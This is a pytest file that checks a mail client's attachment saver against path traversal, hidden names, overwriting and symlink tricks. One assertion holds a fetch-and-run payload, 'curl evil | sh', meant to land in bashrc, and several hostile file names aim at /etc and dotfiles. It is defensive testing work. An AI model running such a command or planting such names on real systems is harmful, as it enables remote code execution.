"""Attachments land only inside the chosen folder, under a safe name, never overwriting."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests import corpus_helpers as helpers
from tui.core.attachments import (
    AttachmentExists,
    AttachmentSaveError,
    default_folder,
    free_name,
    save_all,
    save_attachment,
)
from tui.core.errors import MailError
from tui.core.mime import Attachment, parse_message


def att(name: str, data: bytes = b"donnees") -> Attachment:
    return Attachment(1, name, "application/octet-stream", len(data), data)


def test_traversal_corpus_lands_inside_the_folder(tmp_path: Path) -> None:
    message = parse_message((helpers.CORPUS / "filename-path-traversal.eml").read_bytes())
    folder = tmp_path / "dl"
    folder.mkdir()
    paths = save_all(message.attachments, folder)
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["bashrc", "passwd", "win.ini", "rf", "_CON.txt"]
    )
    assert all(p.parent == folder.resolve() for p in paths)
    assert not (tmp_path / ".bashrc").exists()
    assert (folder / "bashrc").read_bytes() == b"curl evil | sh"


@pytest.mark.parametrize("name", ["../../evil", "/etc/evil", "..", ".hidden", "a/../../b"])
def test_hostile_names_stay_inside(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "dl"
    folder.mkdir()
    path = save_attachment(att(name), folder)
    assert path.parent == folder.resolve()
    assert not path.name.startswith(".")


def test_never_overwrites_without_asking(tmp_path: Path) -> None:
    save_attachment(att("rapport.pdf", b"premier"), tmp_path)
    with pytest.raises(AttachmentExists) as caught:
        save_attachment(att("rapport.pdf", b"second"), tmp_path)
    assert isinstance(caught.value, MailError)
    assert "rapport.pdf" in str(caught.value)
    assert (tmp_path / "rapport.pdf").read_bytes() == b"premier"
    save_attachment(att("rapport.pdf", b"second"), tmp_path, overwrite=True)
    assert (tmp_path / "rapport.pdf").read_bytes() == b"second"


def test_free_name_and_save_all_number_copies(tmp_path: Path) -> None:
    (tmp_path / "rapport.pdf").write_bytes(b"x")
    assert free_name(tmp_path, "rapport.pdf") == "rapport (1).pdf"
    assert free_name(tmp_path, "archive.tar.gz") == "archive.tar.gz"
    (tmp_path / "archive.tar.gz").write_bytes(b"x")
    assert free_name(tmp_path, "archive.tar.gz") == "archive (1).tar.gz"
    paths = save_all([att("rapport.pdf"), att("rapport.pdf")], tmp_path)
    assert [p.name for p in paths] == ["rapport (1).pdf", "rapport (2).pdf"]


def test_symlink_in_folder_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"intact")
    folder = tmp_path / "dl"
    folder.mkdir()
    (folder / "note.txt").symlink_to(outside)
    with pytest.raises(AttachmentExists):
        save_attachment(att("note.txt", b"pirate"), folder)
    assert outside.read_bytes() == b"intact"
    save_attachment(att("note.txt", b"nouveau"), folder, overwrite=True)
    assert outside.read_bytes() == b"intact"
    assert (folder / "note.txt").read_bytes() == b"nouveau"


def test_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(AttachmentSaveError):
        save_attachment(att("a.txt"), tmp_path / "absent")


def test_default_folder_follows_xdg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DOWNLOAD_DIR", str(tmp_path / "Téléchargements"))
    assert default_folder() == tmp_path / "Téléchargements"
